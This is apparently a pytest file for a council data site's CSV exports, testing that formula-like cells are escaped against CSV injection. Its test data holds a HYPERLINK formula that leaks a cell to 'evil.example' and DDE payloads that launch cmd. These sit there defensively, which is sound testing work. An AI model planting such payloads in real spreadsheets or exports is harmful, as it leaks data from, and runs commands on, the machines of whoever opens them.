"""Formula-like text in a downloaded CSV stays text; numbers stay numbers (OWASP "CSV injection").

Every public CSV (open data, an indicator's figures, the resident-voice counts, the verdicts command and the
board pack) writes its cells through `onestockport.csv_safety.safe_cell`; these tests put hostile text and a
negative number through each of them.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from onestockport.csv_safety import safe_cell, safe_row

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("- a bullet point", "'- a bullet point"),
        ("", ""),
        ("plain text = fine", "plain text = fine"),
        ("Stockport", "Stockport"),
    ],
)
def test_text_that_a_spreadsheet_would_run_is_kept_as_text(text, expected):
    assert safe_cell(text) == expected


@pytest.mark.parametrize("number", ["-3.5", "+2", "-0", "-.5", "12", "-1e-07", "+6.02E23", "-1,234.5"])
def test_a_number_written_as_text_stays_as_written(number):
    expected = number if "," not in number else "'" + number  # a thousands comma is not a plain number
    assert safe_cell(number) == expected


@pytest.mark.parametrize("number", [-3.5, -2, 0, Decimal("-1.25"), None, True])
def test_real_numbers_and_other_values_are_never_changed(number):
    assert safe_cell(number) is number


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["-3.5", "=1", -1, None]) == ["-3.5", "'=1", -1, None]


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


def test_the_board_pack_csv_uses_the_shared_rule():
    from types import SimpleNamespace

    from onestockport.delivery.reports import csv_format

    rows = [
        {"priority": "=cmd", "action": 1, "narrative": "-3.5", "percent_complete": 40, "milestones_overdue": 0},
        {"priority": "P", "action": 2, "narrative": "@SUM(A1)", "percent_complete": "", "milestones_overdue": 0},
    ]
    original = csv_format.rows
    csv_format.rows = lambda pack: rows
    try:
        out = csv_format.CsvFormat().render(SimpleNamespace())
    finally:
        csv_format.rows = original
    written = _rows(out.decode("utf-8"))
    assert [row["Priority"] for row in written] == ["'=cmd", "P"]
    assert [row["What has happened"] for row in written] == ["-3.5", "'@SUM(A1)"]  # a number stays a number
    assert [row["Percent complete"] for row in written] == ["40", ""]


def test_the_voice_counts_csv_neutralises_labels(client, monkeypatch):
    from onestockport.voice import selectors, views

    hostile = {
        "table": "respondents by ward",
        "group": HYPERLINK,
        "count": "fewer than 5",
        "percentage": "-3.5",
        "population_percentage": "",
        "verdict": "+cmd",
    }
    monkeypatch.setattr(views, "_plan", lambda: None)
    monkeypatch.setattr(selectors, "published_counts", lambda plan: [hostile])
    response = client.get("/what-we-heard/published-counts.csv")
    (row,) = _rows(response.content.decode())
    assert row["group"] == "'" + HYPERLINK
    assert row["verdict"] == "'+cmd"
    assert row["percentage"] == "-3.5"
    assert row["count"] == "fewer than 5"


@pytest.mark.django_db
def test_the_verdicts_command_neutralises_text(monkeypatch, tmp_path):
    from click.testing import CliRunner

    from onestockport import cli
    from onestockport.indicators import verdicts

    row = dict.fromkeys(verdicts.VERDICT_COLUMNS, "")
    row.update(indicator="x", breakdown="@cmd", value=-3.5, lower_95="-4.25", period="=1+1")
    monkeypatch.setattr(verdicts, "verdict_rows", lambda **kwargs: iter([row]))
    monkeypatch.setattr("onestockport.plans.selectors.get_plan", lambda slug=None: None)
    monkeypatch.setattr("onestockport.indicators.selectors.place_area", lambda plan: None)
    out = tmp_path / "verdicts.csv"
    result = CliRunner().invoke(cli.cli, ["data", "verdicts", "--output", str(out)])
    assert result.exit_code == 0, result.output
    (written,) = _rows(out.read_text(encoding="utf-8"))
    assert written["breakdown"] == "'@cmd"
    assert written["period"] == "'=1+1"
    assert written["value"] == "-3.5"
    assert written["lower_95"] == "-4.25"
